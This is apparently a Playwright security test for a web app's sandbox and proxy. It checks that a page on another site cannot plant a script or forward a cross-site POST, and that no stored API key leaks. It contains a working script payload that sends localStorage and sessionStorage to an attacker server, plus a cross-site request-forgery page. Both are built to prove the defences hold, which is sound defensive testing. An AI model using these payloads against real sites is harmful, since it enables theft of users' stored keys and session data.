import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { E2E_PORT, E2E_SANDBOX_PORT } from '../playwright.config';
import { expect, sandboxFaults, test, SANDBOX_KEY } from './fixtures';

// The cross-site attack (decision 0008), from a page on another site (http://localhost:<port>, while the app is on
// 127.0.0.1): set a sandbox fault whose body is a script, then send the admin's tab to it. The
// script would post every stored key to the attacker. No key may ever leave the app's origin.

const APP = `http://127.0.0.1:${E2E_PORT}`;
const STANDALONE = `http://127.0.0.1:${E2E_SANDBOX_PORT}`;

/** The state-changing call the attacker's page tries through the proxy, at the standalone sandbox. */
const CROSS_SITE_TARGET = '/api/external/v1/team_members/x';

/** The calls the standalone sandbox received with this method and path (its request log). */
async function standaloneCalls(page: Page, method: string, path: string) {
  const { requests } = (await (await page.request.get(`${STANDALONE}/__sandbox/requests`)).json()) as {
    requests: { method: string; path: string }[];
  };
  return requests.filter((r) => r.method === method && r.path === path);
}

interface Seen {
  method: string;
  url: string;
  text: string;
}

let attacker: Server;
let ATTACKER = '';
const seen: Seen[] = [];

const stealScript = (to: string) =>
  `<script>new Image().src='${to}/steal?d='+encodeURIComponent(JSON.stringify([Object.entries(localStorage),Object.entries(sessionStorage)]))</script>`;

const attackPage = (to: string) => `<!doctype html><title>Cute cats</title><h1>Cats</h1><script>
const fault = JSON.stringify({ path: '/api/external/pwn', status: 200, body: ${JSON.stringify(stealScript(to)).replace(/</g, '\\u003c')} });
const tries = [
  ['${APP}/sandbox/demo/__sandbox/faults', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: fault }],
  ['${APP}/sandbox/demo/__sandbox/faults', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: fault }],
  ['${APP}/sandbox/demo/__sandbox/reset', { method: 'POST', mode: 'no-cors' }],
  ['${APP}/sandbox/demo/__sandbox/requests', {}],
  ['${APP}/proxy/http/127.0.0.1:${E2E_SANDBOX_PORT}${CROSS_SITE_TARGET}', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{}' }],
];
window.attempts = Promise.all(tries.map(([url, init]) => fetch(url, init).then((r) => r.type + ' ' + r.status, () => 'blocked')));
</script>`;

test.beforeAll(async () => {
  attacker = createServer((req, res) => {
    let text = '';
    req.on('data', (d: Buffer) => (text += d.toString()));
    req.on('end', () => {
      seen.push({ method: req.method ?? '', url: req.url ?? '', text: `${JSON.stringify(req.headers)} ${text}` });
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(req.url === '/' ? attackPage(ATTACKER) : '');
    });
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  ATTACKER = `http://localhost:${(attacker.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise<void>((resolve) => attacker.close(() => resolve())));

test('a page on another site cannot plant a script, and no stored key leaves the app', async ({
  page,
  context,
  resetSandbox,
}) => {
  await resetSandbox();
  // A body, so Playwright sends it as JSON: the control endpoints take nothing else.
  expect((await page.request.delete(`${STANDALONE}/__sandbox/faults`, { data: {} })).ok()).toBe(true);
  expect((await page.request.delete(`${STANDALONE}/__sandbox/requests`, { data: {} })).ok()).toBe(true);
  // Every request the browser sends to an origin other than the app's must be key-free.
  const leaks: string[] = [];
  context.on('request', (req) => {
    if (new URL(req.url()).origin === APP) return;
    const sent = `${req.url()} ${JSON.stringify(req.headers())} ${req.postData() ?? ''}`;
    if (sent.includes(SANDBOX_KEY)) leaks.push(req.url());
  });

  // The admin has a workspace whose key is remembered on this device.
  await page.goto('/settings');
  await page.getByRole('button', { name: 'Add a workspace' }).click();
  await page.getByRole('textbox', { name: 'Name' }).fill('Remembered');
  await page.getByRole('textbox', { name: 'Workspace address' }).fill(STANDALONE);
  await page.getByRole('textbox', { name: 'API key' }).fill(SANDBOX_KEY);
  await page.getByRole('radio', { name: 'Through the Slotboard server' }).check();
  await page.getByRole('checkbox', { name: 'Remember the key on this device' }).check();
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByRole('banner').getByRole('link', { name: 'Remembered' })).toBeVisible();
  expect(await page.evaluate(() => JSON.stringify(localStorage))).toContain(SANDBOX_KEY);

  // 1. The admin visits the attacker's page, which fires its requests at the app's server.
  await page.goto(`${ATTACKER}/`);
  const attempts = await page.evaluate(() => (window as unknown as { attempts: Promise<string[]> }).attempts);
  // The JSON one needs a preflight, which the server does not grant.
  expect(attempts[1]).toBe('blocked');
  expect((await sandboxFaults(page)).faults).toEqual([]);
  // The cross-site POST through the proxy was refused before it was forwarded: the standalone
  // sandbox, which logs every call that reaches it (refused ones too), never saw it.
  expect(await standaloneCalls(page, 'POST', CROSS_SITE_TARGET)).toEqual([]);

  // 2. Where it would send the tab, there is no script, only the sandbox asking for its key.
  const missing = await page.request.get(`${APP}/sandbox/demo/api/external/pwn`);
  expect(missing.status()).toBe(401);
  expect(missing.headers()['content-type']).toContain('application/json');

  // 3. Even a script that did get in (here planted by the test itself), in the sandbox or from a
  // hostile upstream through the proxy, arrives as plain text that cannot run.
  const fault = { path: '/api/external/pwn', status: 200, body: stealScript(ATTACKER), times: 1 };
  expect((await page.request.post('/sandbox/demo/__sandbox/faults', { data: fault })).ok()).toBe(true);
  expect((await page.request.post(`${STANDALONE}/__sandbox/faults`, { data: fault })).ok()).toBe(true);
  // A tab of its own: Chromium's text viewer reports its own scripts blocked by the sandbox there,
  // which is the point, and those reports must not count as the app's console errors.
  const tab = await context.newPage();
  for (const path of ['/sandbox/demo/api/external/pwn', `/proxy/http/127.0.0.1:${E2E_SANDBOX_PORT}/api/external/pwn`]) {
    const res = await tab.goto(`${APP}${path}`);
    expect(res?.headers()['content-type']).toBe('text/plain; charset=utf-8');
    expect(res?.headers()['content-security-policy']).toContain('sandbox');
    await expect(tab.locator('body')).toContainText('<script>');
    expect(await tab.evaluate(() => window.origin)).toBe('null');
  }
  await tab.close();
  await page.goto('/settings');
  await expect(page.getByRole('banner').getByRole('link', { name: 'Remembered' })).toBeVisible();

  // The log would show a forwarded call: the same POST sent from the app's own side (no Origin) arrives.
  expect(
    (
      await page.request.post(`${APP}/proxy/http/127.0.0.1:${E2E_SANDBOX_PORT}${CROSS_SITE_TARGET}`, { data: {} })
    ).status(),
  ).toBe(401);
  expect(await standaloneCalls(page, 'POST', CROSS_SITE_TARGET)).toHaveLength(1);

  expect(seen.filter((s) => s.text.includes(SANDBOX_KEY) || s.url.includes(SANDBOX_KEY))).toEqual([]);
  expect(seen.map((s) => s.url).filter((url) => url !== '/favicon.ico')).toEqual(['/']);
  expect(leaks).toEqual([]);
});
